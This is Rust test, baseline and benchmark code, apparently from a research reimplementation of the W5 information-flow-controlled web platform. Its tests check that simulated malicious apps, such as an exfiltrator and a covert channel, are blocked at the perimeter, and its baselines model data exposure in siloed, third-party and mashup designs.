    let body = String::from_utf8_lossy(&r.body).into_owned();
    // jazz-scored item ranks first.
    let jazz_pos = body.find("jazz night").expect("jazz item present");
    let chores_pos = body.find("laundry").expect("laundry item present");
    assert!(jazz_pos < chores_pos, "{body}");
}

#[test]
fn dating_match_with_custom_metric() {
    let w = world();
    for (u, scores, weights) in [
        (&w.bob, "9,0,0,0,9", Some("10,1,1,1,1")), // music-weighted metric
        (&w.alice, "9,0,0,0,0", None),
        (&w.carol, "0,0,0,0,9", None),
    ] {
        let mut params = vec![("scores", scores)];
        if let Some(ws) = weights {
            params.push(("weights", ws));
        }
        let r = invoke(&w, Some(u), "devD/dating", "POST", "profile", &params);
        assert_eq!(r.status, 200);
    }
    // Candidates must clear Bob for even the scores to export.
    for u in [&w.alice, &w.carol] {
        w.p.policies
            .grant_declassifier(u.id, "public-read", GrantScope::App("devD/dating".into()));
    }
    let r = invoke(
        &w,
        Some(&w.bob),
        "devD/dating",
        "GET",
        "match",
        &[("candidates", "alice,carol")],
    );
    assert_eq!(r.status, 200, "{:?}", String::from_utf8_lossy(&r.body));
    let body = String::from_utf8_lossy(&r.body).into_owned();
    // Bob's music-heavy metric ranks alice (music match) above carol.
    let a = body.find("alice").unwrap();
    let c = body.find("carol").unwrap();
    assert!(a < c, "{body}");
}

// ---------------------------------------------------------------------
// The §3 attack suite.
// ---------------------------------------------------------------------

#[test]
fn attack_direct_theft_blocked() {
    let w = world();
    assert_eq!(upload_test_photo(&w.p, &w.bob, "private", 8), 200);
    // Carol uses the exfiltrator to steal Bob's photo.
    let r = invoke(
        &w,
        Some(&w.carol),
        "mal/exfiltrator",
        "GET",
        "steal",
        &[("path", "/photos/bob/private")],
    );
    assert_eq!(r.status, 403, "perimeter must block");
    assert!(!String::from_utf8_lossy(&r.body).contains("W5IMG"), "no pixels in error");
    // Bob using the same evil app on his own data: allowed (it's his).
    let r = invoke(
        &w,
        Some(&w.bob),
        "mal/exfiltrator",
        "GET",
        "steal",
        &[("path", "/photos/bob/private")],
    );
    assert_eq!(r.status, 200, "evil code may serve the owner");
}

#[test]
fn attack_confederate_blocked() {
    let w = world();
    assert_eq!(upload_test_photo(&w.p, &w.bob, "private", 8), 200);
    // Stage 1: carol stashes. The stash itself is tainted, so even the
    // "stashed at …" confirmation cannot reach her.
    let r = invoke(
        &w,
        Some(&w.carol),
        "mal/stasher",
        "GET",
        "stash",
        &[("path", "/photos/bob/private"), ("tag", "77")],
    );
    assert_eq!(r.status, 403);
    // Stage 2: even so, suppose the file exists — the confederate's export
    // is blocked by the same tag on the drop file.
    let r = invoke(&w, Some(&w.carol), "mal/confederate", "GET", "fetch", &[("tag", "77")]);
    assert!(r.status == 403 || r.status == 404, "got {}", r.status);
}

#[test]
fn attack_vandalism_and_deletion_blocked() {
    let w = world();
    assert_eq!(upload_test_photo(&w.p, &w.bob, "precious", 8), 200);
    let r = invoke(&w, Some(&w.carol), "mal/vandal", "POST", "x", &[("path", "/photos/bob/precious")]);
    assert_eq!(r.status, 403);
    let r = invoke(&w, Some(&w.carol), "mal/deleter", "POST", "x", &[("path", "/photos/bob/precious")]);
    assert_eq!(r.status, 403);
    // The file is intact.
    let r = invoke(&w, Some(&w.bob), "devA/photos", "GET", "view", &[("user", "bob"), ("name", "precious")]);
    assert_eq!(r.status, 200);
}

#[test]
fn attack_misrepresentation_is_detectable() {
    let w = world();
    // Carol plants a fake "bob" photo. Creation at unvouched labels is
    // permitted (it's just a write of carol-derived data)…
    let r = invoke(&w, Some(&w.carol), "mal/misrepresenter", "POST", "x", &[("victim", "bob")]);
    assert_eq!(r.status, 200);
    assert!(String::from_utf8_lossy(&r.body).contains("integrity tags: 0"));
    // …but a genuine photo of Bob's carries his write-protection tag, so
    // consumers can tell them apart.
    assert_eq!(upload_test_photo(&w.p, &w.bob, "real", 4), 200);
    let subject = w5_store::Subject::new(
        w5_difc::LabelPair::public(),
        w.p.registry.effective(&w5_difc::CapSet::empty()),
    );
    let real = w.p.fs.stat(&subject, "/photos/bob/real").unwrap();
    let fake = w.p.fs.stat(&subject, "/photos/bob/planted.img").unwrap();
    assert!(real.labels.integrity.contains(w.bob.write_tag));
    assert!(!fake.labels.integrity.contains(w.bob.write_tag));
}

#[test]
fn attack_crash_leak_redacted() {
    let w = world();
    assert_eq!(upload_test_photo(&w.p, &w.bob, "secret", 4), 200);
    let r = invoke(
        &w,
        Some(&w.carol),
        "mal/crashleaker",
        "GET",
        "x",
        &[("path", "/photos/bob/secret")],
    );
    assert_eq!(r.status, 500);
    let report = r.fault.expect("fault recorded");
    assert!(report.redacted, "tainted crash must redact");
    assert_eq!(report.detail, None);
}

#[test]
fn attack_covert_channel_never_exports_the_count() {
    // The §3.5 SQL covert channel. Under W5 the *value* can never reach
    // the receiver: counting a tainted row taints the counting instance,
    // so the response is blocked at the perimeter — and, crucially, every
    // blocked probe leaves an audit entry. (Contrast the naive store,
    // measured in E9, where the count leaks silently.) Rows under
    // read-protect tags are invisible outright; that arm is covered by the
    // w5-store test `read_protected_rows_are_invisible_and_uncountable`.
    let w = world();
    assert_eq!(upload_test_photo(&w.p, &w.bob, "bit", 4), 200);
    let (_, blocked_before, _) = w.p.exporter.stats();

    // Receiver baseline: no tainted rows ⇒ plain "0".
    let r = invoke(&w, Some(&w.carol), "mal/covert", "GET", "recv", &[]);
    assert_eq!(r.status, 200);
    assert_eq!(String::from_utf8_lossy(&r.body), "0");

    // Sender transmits bit=1 using Bob's secret as the taint source.
    let r = invoke(
        &w,
        Some(&w.carol),
        "mal/covert",
        "GET",
        "send",
        &[("path", "/photos/bob/bit"), ("bit", "1")],
    );
    // The send's own confirmation is already blocked (the instance is
    // tainted), whatever the bit was.
    assert_eq!(r.status, 403);

    // The receiver probes. It never sees "1": the count taints the
    // instance with Bob's tag and the perimeter blocks the response.
    let r = invoke(&w, Some(&w.carol), "mal/covert", "GET", "recv", &[]);
    assert_eq!(r.status, 403);
    assert!(!String::from_utf8_lossy(&r.body).contains('1'), "count must not leak");

    // Every probe left an audit trail for the provider.
    let (_, blocked_after, _) = w.p.exporter.stats();
    assert!(blocked_after >= blocked_before + 2, "blocks are audited");
    let log = w.p.exporter.audit_log();
    assert!(log.iter().any(|e| !e.allowed && e.app == "mal/covert"));
}
