//! # w5-baseline — the web as it is
//!
//! The models the paper positions W5 against, built as executable
//! comparators for the experiments:
//!
//! * [`silo`] — Figure 1: each application is its own site with its own
//!   accounts and its own copy of user data. E1 measures the data
//!   duplication and per-app onboarding cost this causes.
//! * [`thirdparty`] — the Facebook-style model (§4): the platform hosts
//!   the data but third-party application code runs on *external* servers,
//!   so using an app reveals the user's data to its developer.
//! * [`mashup`] — the §4 address-book/map example in three variants:
//!   status quo (everything leaks to the map service), MashupOS (names
//!   hidden, addresses still leak), and W5 (server-side composition, no
//!   third-party sees anything).
//! * [`no_ifc_platform`] — our own platform with enforcement disabled:
//!   identical code paths minus the DIFC tax, the control arm of E4.

#![forbid(unsafe_code)]

pub mod mashup;
pub mod silo;
pub mod thirdparty;

use std::sync::Arc;
use w5_platform::{Platform, PlatformConfig};

/// A platform instance with information flow control switched off — the
/// "conventional shared hosting" control arm of the overhead experiments.
pub fn no_ifc_platform(name: &str) -> Arc<Platform> {
    Platform::new(
        name,
        PlatformConfig {
            enforce_ifc: false,
            sanitize_html: false,
            app_limits: w5_kernel::ResourceLimits::unlimited(),
            query_cost: w5_store::QueryCost::unlimited(),
        },
    )
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_ifc_platform_disables_enforcement() {
        let p = no_ifc_platform("control");
        assert!(!p.config.enforce_ifc);
        assert!(!p.config.sanitize_html);
    }
}
