//! The §4 mashup example, in three security postures.
//!
//! "Consider a mashup that combines a page of a private address book from
//! MyYahoo with a map from Google. Under the status quo, such a mashup
//! would reveal the page of the address book (both names and addresses)
//! to Google. The recent MashupOS proposal can improve security in this
//! example, hiding names from Google. However, the application still uses
//! the Google API to place markers on the map, and therefore cannot stop
//! the transmission of the addresses back to Google's servers. The same
//! application on W5 could generate the annotated map on the server side,
//! disallowing export of the address data to the map developers."

use w5_sync::RwLock;

/// An address-book entry.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Contact {
    /// Person's name (private).
    pub name: String,
    /// Street address (private).
    pub address: String,
}

/// The external map service; records everything sent to its API.
pub struct MapService {
    received: RwLock<Vec<String>>,
}

impl Default for MapService {
    fn default() -> MapService {
        MapService::new()
    }
}

impl MapService {
    /// A fresh service.
    pub fn new() -> MapService {
        MapService { received: RwLock::new("baseline.mashup", Vec::new()) }
    }

    /// The marker-placement API: geocode an address, return a marker id.
    pub fn place_marker(&self, query: &str) -> usize {
        let mut r = self.received.write();
        r.push(query.to_string());
        r.len()
    }

    /// Everything this service's operator has learned.
    pub fn received(&self) -> Vec<String> {
        self.received.read().clone()
    }

    /// Static map tiles (no user data involved).
    pub fn base_tiles(&self) -> &'static str {
        "<tiles/>"
    }
}

/// Which posture the mashup runs under.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum MashupModel {
    /// Status quo: names + addresses go to the service.
    StatusQuo,
    /// MashupOS: names are isolated client-side; addresses still go.
    MashupOs,
    /// W5: the map is composed server-side inside the perimeter; nothing
    /// reaches the service but a tile request.
    W5,
}

/// Render the annotated map under a given model. Returns the HTML; the
/// privacy outcome is read off `service.received()`.
pub fn render_map(model: MashupModel, contacts: &[Contact], service: &MapService) -> String {
    match model {
        MashupModel::StatusQuo => {
            let mut html = String::from("<map>");
            for c in contacts {
                // The mashup page passes the full entry to the API.
                let id = service.place_marker(&format!("{} @ {}", c.name, c.address));
                html.push_str(&format!("<marker id='{id}'>{}</marker>", c.name));
            }
            html.push_str("</map>");
            html
        }
        MashupModel::MashupOs => {
            let mut html = String::from("<map>");
            for c in contacts {
                // Isolation hides the name, but geocoding still needs the
                // address at the service.
                let id = service.place_marker(&c.address);
                html.push_str(&format!("<marker id='{id}'>{}</marker>", c.name));
            }
            html.push_str("</map>");
            html
        }
        MashupModel::W5 => {
            // Server-side composition inside the perimeter: fetch only the
            // public base tiles, place markers locally.
            let tiles = service.base_tiles();
            let mut html = format!("<map>{tiles}");
            for (i, c) in contacts.iter().enumerate() {
                html.push_str(&format!(
                    "<marker id='{}' pos='{}'>{}</marker>",
                    i + 1,
                    local_geocode(&c.address),
                    c.name
                ));
            }
            html.push_str("</map>");
            html
        }
    }
}

/// A deterministic in-perimeter geocoder stand-in.
fn local_geocode(address: &str) -> String {
    let h: u32 = address.bytes().fold(0u32, |acc, b| acc.wrapping_mul(31).wrapping_add(b as u32));
    format!("{},{}", h % 180, h % 90)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn contacts() -> Vec<Contact> {
        vec![
            Contact { name: "Alice".into(), address: "1 Main St".into() },
            Contact { name: "Bob".into(), address: "2 Oak Ave".into() },
        ]
    }

    #[test]
    fn status_quo_leaks_names_and_addresses() {
        let svc = MapService::new();
        let html = render_map(MashupModel::StatusQuo, &contacts(), &svc);
        assert!(html.contains("Alice"));
        let got = svc.received();
        assert_eq!(got.len(), 2);
        assert!(got[0].contains("Alice") && got[0].contains("1 Main St"));
    }

    #[test]
    fn mashupos_hides_names_but_leaks_addresses() {
        let svc = MapService::new();
        let _ = render_map(MashupModel::MashupOs, &contacts(), &svc);
        let got = svc.received();
        assert_eq!(got.len(), 2);
        assert!(got.iter().all(|q| !q.contains("Alice") && !q.contains("Bob")));
        assert!(got[0].contains("1 Main St"), "addresses still leak");
    }

    #[test]
    fn w5_leaks_nothing() {
        let svc = MapService::new();
        let html = render_map(MashupModel::W5, &contacts(), &svc);
        assert!(svc.received().is_empty(), "nothing reaches the map service");
        // And the map is still fully annotated.
        assert!(html.contains("Alice") && html.contains("Bob"));
        assert!(html.contains("pos="));
    }

    #[test]
    fn leak_counts_ordered_by_model() {
        // status quo ≥ mashupos > w5, as the paper argues.
        let c = contacts();
        let count = |m| {
            let svc = MapService::new();
            let _ = render_map(m, &c, &svc);
            svc.received()
                .iter()
                .map(|s| s.len())
                .sum::<usize>()
        };
        let sq = count(MashupModel::StatusQuo);
        let mo = count(MashupModel::MashupOs);
        let w5 = count(MashupModel::W5);
        assert!(sq > mo, "{sq} {mo}");
        assert!(mo > w5);
        assert_eq!(w5, 0);
    }
}
