//! The siloed web of Figure 1: one site per application, data bound to
//! the application.
//!
//! Users must create an account at every site and re-upload their data at
//! every site ("type in the same romantic, music, and food preferences to
//! half a dozen social networking sites", §1). Sites may expose narrow
//! APIs for specific keys; everything else is locked in.
//!
//! The model counts the operations a user performs, so E1 can compare the
//! cost of adopting the Nth application here versus on W5 (where it is
//! one enrollment checkbox).

use w5_sync::RwLock;
use std::collections::HashMap;

/// Operation counters per user (the E1 metric).
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct UserEffort {
    /// Accounts created.
    pub registrations: usize,
    /// Data items uploaded (including re-uploads of the same item).
    pub uploads: usize,
}

/// One application site with its own accounts and storage.
#[derive(Default)]
struct Site {
    /// username → password.
    accounts: HashMap<String, String>,
    /// (username, key) → value.
    data: HashMap<(String, String), String>,
    /// Keys exposed through the site's narrow public API.
    api_exposed: Vec<String>,
}

/// Errors in the siloed world.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum SiloError {
    /// Unknown site.
    NoSuchSite,
    /// The user has no account here.
    NoAccount,
    /// Wrong password.
    BadPassword,
    /// The site's API does not expose this key.
    NotExposed,
    /// No such data.
    NotFound,
}

/// The whole siloed web: a collection of independent sites.
pub struct SiloedWeb {
    sites: RwLock<HashMap<String, Site>>,
    effort: RwLock<HashMap<String, UserEffort>>,
}

impl Default for SiloedWeb {
    fn default() -> SiloedWeb {
        SiloedWeb::new()
    }
}

impl SiloedWeb {
    /// An empty web.
    pub fn new() -> SiloedWeb {
        SiloedWeb {
            sites: RwLock::with_index("baseline.silo", 0, HashMap::new()),
            effort: RwLock::with_index("baseline.silo", 1, HashMap::new()),
        }
    }

    /// Launch a new application site.
    pub fn create_site(&self, name: &str) {
        self.sites.write().entry(name.to_string()).or_default();
    }

    /// Register a user at one site (every site, separately).
    pub fn register(&self, site: &str, user: &str, password: &str) -> Result<(), SiloError> {
        let mut sites = self.sites.write();
        let s = sites.get_mut(site).ok_or(SiloError::NoSuchSite)?;
        s.accounts.insert(user.to_string(), password.to_string());
        self.effort.write().entry(user.to_string()).or_default().registrations += 1;
        Ok(())
    }

    /// Upload a datum to one site (every site that needs it, separately).
    pub fn upload(
        &self,
        site: &str,
        user: &str,
        password: &str,
        key: &str,
        value: &str,
    ) -> Result<(), SiloError> {
        let mut sites = self.sites.write();
        let s = sites.get_mut(site).ok_or(SiloError::NoSuchSite)?;
        match s.accounts.get(user) {
            None => return Err(SiloError::NoAccount),
            Some(p) if p != password => return Err(SiloError::BadPassword),
            Some(_) => {}
        }
        s.data.insert((user.to_string(), key.to_string()), value.to_string());
        self.effort.write().entry(user.to_string()).or_default().uploads += 1;
        Ok(())
    }

    /// Authenticated fetch from one site.
    pub fn fetch(
        &self,
        site: &str,
        user: &str,
        password: &str,
        key: &str,
    ) -> Result<String, SiloError> {
        let sites = self.sites.read();
        let s = sites.get(site).ok_or(SiloError::NoSuchSite)?;
        match s.accounts.get(user) {
            None => return Err(SiloError::NoAccount),
            Some(p) if p != password => return Err(SiloError::BadPassword),
            Some(_) => {}
        }
        s.data
            .get(&(user.to_string(), key.to_string()))
            .cloned()
            .ok_or(SiloError::NotFound)
    }

    /// The site decides to expose a key through its narrow API ("which may
    /// be narrow as a result of privacy considerations, corporate policy,
    /// or simple caprice", §4).
    pub fn expose_api(&self, site: &str, key: &str) {
        if let Some(s) = self.sites.write().get_mut(site) {
            s.api_exposed.push(key.to_string());
        }
    }

    /// Unauthenticated API fetch — what a masher can get.
    pub fn api_fetch(&self, site: &str, user: &str, key: &str) -> Result<String, SiloError> {
        let sites = self.sites.read();
        let s = sites.get(site).ok_or(SiloError::NoSuchSite)?;
        if !s.api_exposed.iter().any(|k| k == key) {
            return Err(SiloError::NotExposed);
        }
        s.data
            .get(&(user.to_string(), key.to_string()))
            .cloned()
            .ok_or(SiloError::NotFound)
    }

    /// How many copies of `(user, key)` exist across all sites — the
    /// fragmentation metric of E1.
    pub fn copies_of(&self, user: &str, key: &str) -> usize {
        self.sites
            .read()
            .values()
            .filter(|s| s.data.contains_key(&(user.to_string(), key.to_string())))
            .count()
    }

    /// Effort counters for a user.
    pub fn effort(&self, user: &str) -> UserEffort {
        self.effort.read().get(user).copied().unwrap_or_default()
    }

    /// Number of sites.
    pub fn site_count(&self) -> usize {
        self.sites.read().len()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_site_needs_registration_and_upload() {
        let web = SiloedWeb::new();
        for site in ["photos.com", "blog.com", "social.com"] {
            web.create_site(site);
            web.register(site, "bob", "pw").unwrap();
            web.upload(site, "bob", "pw", "preferences", "jazz,scifi").unwrap();
        }
        let e = web.effort("bob");
        assert_eq!(e.registrations, 3);
        assert_eq!(e.uploads, 3);
        assert_eq!(web.copies_of("bob", "preferences"), 3, "the same datum, thrice");
    }

    #[test]
    fn auth_is_per_site() {
        let web = SiloedWeb::new();
        web.create_site("a.com");
        web.create_site("b.com");
        web.register("a.com", "bob", "pw").unwrap();
        // No account at b.com despite having one at a.com.
        assert_eq!(web.upload("b.com", "bob", "pw", "k", "v"), Err(SiloError::NoAccount));
        assert_eq!(web.fetch("a.com", "bob", "wrong", "k"), Err(SiloError::BadPassword));
    }

    #[test]
    fn narrow_api_gates_cross_site_access() {
        let web = SiloedWeb::new();
        web.create_site("addr.com");
        web.register("addr.com", "bob", "pw").unwrap();
        web.upload("addr.com", "bob", "pw", "addresses", "1 Main St").unwrap();
        web.upload("addr.com", "bob", "pw", "diary", "secret").unwrap();
        // Nothing exposed yet.
        assert_eq!(web.api_fetch("addr.com", "bob", "addresses"), Err(SiloError::NotExposed));
        // The site exposes addresses (and only addresses).
        web.expose_api("addr.com", "addresses");
        assert_eq!(web.api_fetch("addr.com", "bob", "addresses").unwrap(), "1 Main St");
        assert_eq!(web.api_fetch("addr.com", "bob", "diary"), Err(SiloError::NotExposed));
    }

    #[test]
    fn missing_things_error() {
        let web = SiloedWeb::new();
        assert_eq!(web.register("ghost.com", "bob", "pw"), Err(SiloError::NoSuchSite));
        web.create_site("a.com");
        web.register("a.com", "bob", "pw").unwrap();
        assert_eq!(web.fetch("a.com", "bob", "pw", "none"), Err(SiloError::NotFound));
    }
}
