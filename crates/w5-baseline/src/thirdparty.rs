//! The Facebook-style third-party application model (§4).
//!
//! "These third-party applications run on Web servers external to
//! Facebook, thereby revealing users' profile information to third party
//! developers, creating a vulnerability (being exposed to the users'
//! data, the developers could in turn expose it)."
//!
//! The model: a platform holds profiles; installing an app means the
//! platform *ships the user's profile to the developer's server* on every
//! invocation. A [`DeveloperServer`] records everything it ever saw — the
//! exposure ledger E2 tabulates. A W5 developer's ledger, by
//! construction, stays empty: the code comes to the data.

use w5_sync::RwLock;
use std::collections::{HashMap, HashSet};
use std::sync::Arc;

/// A third-party developer's external server: receives user data, keeps
/// it forever (that's the point).
pub struct DeveloperServer {
    /// Developer name.
    pub developer: String,
    seen: RwLock<Vec<(String, String)>>,
}

impl Default for DeveloperServer {
    fn default() -> DeveloperServer {
        DeveloperServer {
            developer: String::new(),
            seen: RwLock::with_index("baseline.thirdparty", 3, Vec::new()),
        }
    }
}

impl DeveloperServer {
    /// A server for one developer.
    pub fn new(developer: &str) -> Arc<DeveloperServer> {
        Arc::new(DeveloperServer {
            developer: developer.to_string(),
            seen: RwLock::with_index("baseline.thirdparty", 3, Vec::new()),
        })
    }

    /// The platform calls this with the user's data; the app returns HTML.
    pub fn run_app(&self, user: &str, profile: &str) -> String {
        self.seen.write().push((user.to_string(), profile.to_string()));
        format!("<html><body>hi {user}, processed: {} bytes</body></html>", profile.len())
    }

    /// Every (user, datum) this developer has been exposed to.
    pub fn exposure_ledger(&self) -> Vec<(String, String)> {
        self.seen.read().clone()
    }

    /// Distinct users whose data this developer has seen.
    pub fn users_exposed(&self) -> usize {
        self.seen
            .read()
            .iter()
            .map(|(u, _)| u.clone())
            .collect::<HashSet<_>>()
            .len()
    }
}

/// The hosting platform: owns the data, forwards it to app developers.
pub struct ThirdPartyPlatform {
    profiles: RwLock<HashMap<String, String>>,
    apps: RwLock<HashMap<String, Arc<DeveloperServer>>>,
    installs: RwLock<HashMap<String, Vec<String>>>,
}

impl Default for ThirdPartyPlatform {
    fn default() -> ThirdPartyPlatform {
        ThirdPartyPlatform::new()
    }
}

impl ThirdPartyPlatform {
    /// An empty platform.
    pub fn new() -> ThirdPartyPlatform {
        ThirdPartyPlatform {
            profiles: RwLock::with_index("baseline.thirdparty", 0, HashMap::new()),
            apps: RwLock::with_index("baseline.thirdparty", 1, HashMap::new()),
            installs: RwLock::with_index("baseline.thirdparty", 2, HashMap::new()),
        }
    }

    /// Store a user's profile (the platform's own copy — sign-up is one
    /// step, like W5; the *exposure* is what differs).
    pub fn set_profile(&self, user: &str, profile: &str) {
        self.profiles.write().insert(user.to_string(), profile.to_string());
    }

    /// A developer registers an app backed by their external server.
    pub fn register_app(&self, name: &str, server: Arc<DeveloperServer>) {
        self.apps.write().insert(name.to_string(), server);
    }

    /// A user installs an app — consenting, per the model, to their data
    /// being sent to the developer.
    pub fn install(&self, user: &str, app: &str) {
        self.installs.write().entry(user.to_string()).or_default().push(app.to_string());
    }

    /// Run an installed app for a user: the platform sends the user's
    /// profile to the developer's server and relays the HTML back.
    pub fn run(&self, user: &str, app: &str) -> Option<String> {
        if !self
            .installs
            .read()
            .get(user)
            .map(|apps| apps.iter().any(|a| a == app))
            .unwrap_or(false)
        {
            return None;
        }
        let profile = self.profiles.read().get(user).cloned()?;
        let server = self.apps.read().get(app).cloned()?;
        Some(server.run_app(user, &profile))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn developer_sees_raw_data() {
        let p = ThirdPartyPlatform::new();
        let dev = DeveloperServer::new("sketchy-games");
        p.register_app("quiz", Arc::clone(&dev));
        p.set_profile("bob", "likes: jazz; ssn: 123");
        p.install("bob", "quiz");

        let html = p.run("bob", "quiz").unwrap();
        assert!(html.contains("hi bob"));
        // The whole profile crossed to the developer.
        let ledger = dev.exposure_ledger();
        assert_eq!(ledger.len(), 1);
        assert!(ledger[0].1.contains("ssn: 123"));
        assert_eq!(dev.users_exposed(), 1);
    }

    #[test]
    fn exposure_grows_with_every_user() {
        let p = ThirdPartyPlatform::new();
        let dev = DeveloperServer::new("d");
        p.register_app("quiz", Arc::clone(&dev));
        for u in ["a", "b", "c"] {
            p.set_profile(u, "private");
            p.install(u, "quiz");
            p.run(u, "quiz").unwrap();
        }
        assert_eq!(dev.users_exposed(), 3);
    }

    #[test]
    fn uninstalled_apps_do_not_run() {
        let p = ThirdPartyPlatform::new();
        let dev = DeveloperServer::new("d");
        p.register_app("quiz", Arc::clone(&dev));
        p.set_profile("bob", "x");
        assert!(p.run("bob", "quiz").is_none());
        assert_eq!(dev.users_exposed(), 0);
    }
}
