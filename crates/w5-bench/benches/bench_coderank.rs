//! Criterion benchmarks for CodeRank (experiment E6's rigorous arm).

use criterion::{black_box, criterion_group, criterion_main, BenchmarkId, Criterion};
use w5_coderank::{coderank, popularity, RankParams};
use w5_sim::depgraph::{generate, DepGraphConfig};

fn bench_rank(c: &mut Criterion) {
    let mut g = c.benchmark_group("coderank");
    g.sample_size(20);
    for &apps in &[100usize, 1_000, 10_000] {
        let world = generate(DepGraphConfig {
            core: 20,
            apps,
            spam: apps / 10,
            spam_ring: 10,
            seed: 1,
        });
        g.bench_with_input(BenchmarkId::new("power_iteration", apps), &apps, |b, _| {
            b.iter(|| black_box(coderank(&world.graph, RankParams::default()).iterations))
        });
        g.bench_with_input(BenchmarkId::new("popularity_baseline", apps), &apps, |b, _| {
            b.iter(|| black_box(popularity(&world.graph).len()))
        });
    }
    g.finish();
}

criterion_group!(benches, bench_rank);
criterion_main!(benches);
