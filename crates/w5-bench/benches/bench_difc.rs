//! Criterion microbenchmarks for the DIFC core (experiment E3's
//! statistically rigorous arm).

use criterion::{black_box, criterion_group, criterion_main, BenchmarkId, Criterion};
use std::sync::Arc;
use w5_difc::{can_flow, can_flow_with, wire, CapSet, Capability, Label, LabelPair, Tag, TagKind, TagRegistry};

fn label(n: usize, offset: u64) -> Label {
    Label::from_iter((0..n as u64).map(|i| Tag::from_raw(offset + i * 2 + 1)))
}

fn bench_label_ops(c: &mut Criterion) {
    let mut g = c.benchmark_group("label_ops");
    for &n in &[1usize, 16, 256, 4096] {
        let a = label(n, 1);
        let b = label(n, 3);
        let sup = a.union(&b);
        g.bench_with_input(BenchmarkId::new("subset_hit", n), &n, |bench, _| {
            bench.iter(|| black_box(a.is_subset(&sup)))
        });
        g.bench_with_input(BenchmarkId::new("subset_miss", n), &n, |bench, _| {
            bench.iter(|| black_box(a.is_subset(&b)))
        });
        g.bench_with_input(BenchmarkId::new("union", n), &n, |bench, _| {
            bench.iter(|| black_box(a.union(&b)))
        });
        g.bench_with_input(BenchmarkId::new("intersection", n), &n, |bench, _| {
            bench.iter(|| black_box(a.intersection(&b)))
        });
    }
    g.finish();
}

fn bench_flow_checks(c: &mut Criterion) {
    let mut g = c.benchmark_group("flow_checks");
    let a = label(16, 1);
    let sup = a.union(&label(16, 3));
    g.bench_function("raw_flow_16", |bench| {
        bench.iter(|| black_box(can_flow(&a, &sup)))
    });
    let caps = CapSet::from_caps(a.iter().map(Capability::minus));
    let empty = CapSet::empty();
    g.bench_function("privileged_flow_16", |bench| {
        bench.iter(|| black_box(can_flow_with(&a, &caps, &Label::empty(), &empty).is_ok()))
    });
    g.finish();
}

fn bench_tags_and_wire(c: &mut Criterion) {
    let mut g = c.benchmark_group("tags_wire");
    let reg = Arc::new(TagRegistry::new());
    g.bench_function("create_tag", |bench| {
        bench.iter(|| black_box(reg.create_tag(TagKind::ExportProtect, "u")))
    });
    let pair = LabelPair::new(label(16, 1), label(2, 1001));
    let bytes = wire::pair_to_bytes(&pair);
    g.bench_function("wire_encode_16", |bench| {
        bench.iter(|| black_box(wire::pair_to_bytes(&pair)))
    });
    g.bench_function("wire_decode_16", |bench| {
        bench.iter(|| black_box(wire::pair_from_bytes(&bytes).unwrap()))
    });
    g.finish();
}

criterion_group!(benches, bench_label_ops, bench_flow_checks, bench_tags_and_wire);
criterion_main!(benches);
