//! Criterion benchmarks for the HTTP front end: parsing and the full
//! loopback request path (experiment E4's rigorous arm).

use criterion::{black_box, criterion_group, criterion_main, Criterion};
use std::io::Cursor;
use std::sync::Arc;
use w5_net::http::Limits;
use w5_net::{HttpClient, Request, Response, Server, ServerConfig};

fn bench_parse(c: &mut Criterion) {
    let mut g = c.benchmark_group("http_parse");
    let simple = b"GET /app/devA/photos/view?user=bob&name=cat HTTP/1.1\r\nhost: w5.org\r\ncookie: w5_session=0123456789abcdef\r\naccept: */*\r\n\r\n".to_vec();
    g.bench_function("request_simple", |b| {
        b.iter(|| {
            let mut r = Cursor::new(&simple);
            black_box(Request::read_from(&mut r, &Limits::default()).unwrap())
        })
    });
    let form = b"POST /login HTTP/1.1\r\nhost: w5.org\r\ncontent-type: application/x-www-form-urlencoded\r\ncontent-length: 25\r\n\r\nuser=bob&password=hunter2".to_vec();
    g.bench_function("request_form_post", |b| {
        b.iter(|| {
            let mut r = Cursor::new(&form);
            black_box(Request::read_from(&mut r, &Limits::default()).unwrap())
        })
    });
    let resp = {
        let mut buf = Vec::new();
        Response::html("<html><body>hello</body></html>")
            .write_to(&mut buf, true)
            .unwrap();
        buf
    };
    g.bench_function("response_roundtrip", |b| {
        b.iter(|| {
            let mut r = Cursor::new(&resp);
            black_box(Response::read_from(&mut r, &Limits::default()).unwrap())
        })
    });
    g.finish();
}

fn bench_loopback(c: &mut Criterion) {
    let mut g = c.benchmark_group("http_loopback");
    g.sample_size(30);
    // Criterion drives millions of requests down one connection; lift the
    // default per-connection request cap so keep-alive isn't cut short.
    let config = ServerConfig { max_requests_per_connection: usize::MAX, ..ServerConfig::default() };
    let server = Server::start(
        "127.0.0.1:0",
        config,
        Arc::new(|_req: Request, _peer: std::net::SocketAddr| Response::text("ok")),
    )
    .unwrap();
    let addr = server.addr();
    let client = HttpClient::new();

    g.bench_function("fresh_connection", |b| {
        b.iter(|| black_box(client.get(addr, "/x").unwrap().status))
    });
    let mut conn = client.connect(addr).unwrap();
    g.bench_function("keepalive", |b| {
        b.iter(|| black_box(conn.request(&Request::get("/x")).unwrap().status))
    });
    g.finish();
    server.shutdown();
}

criterion_group!(benches, bench_parse, bench_loopback);
criterion_main!(benches);
