//! Criterion benchmarks for the full platform invoke path: W5 vs no-IFC,
//! plus the perimeter check in isolation (experiments E4/E3's rigorous
//! arms at the platform layer).

use bytes::Bytes;
use criterion::{black_box, criterion_group, criterion_main, Criterion};
use std::sync::Arc;
use w5_platform::{GrantScope, Platform};
use w5_sim::{build_population, PopulationConfig};

fn bench_invoke(c: &mut Criterion) {
    let mut g = c.benchmark_group("platform_invoke");
    g.sample_size(30);

    let pop = PopulationConfig { users: 10, ..Default::default() };
    let w5 = build_population(Platform::new_default("w5"), pop);
    let ctl = build_population(w5_baseline::no_ifc_platform("ctl"), pop);

    for (name, world) in [("w5_view_own_photo", &w5), ("noifc_view_own_photo", &ctl)] {
        let viewer = world.accounts[0].clone();
        let platform = Arc::clone(&world.platform);
        g.bench_function(name, |b| {
            b.iter(|| {
                let req = Platform::make_request(
                    "GET",
                    "view",
                    &[("user", viewer.username.as_str()), ("name", "photo0")],
                    Some(&viewer),
                    Bytes::new(),
                );
                let r = platform.invoke(Some(&viewer), "devA/photos", req);
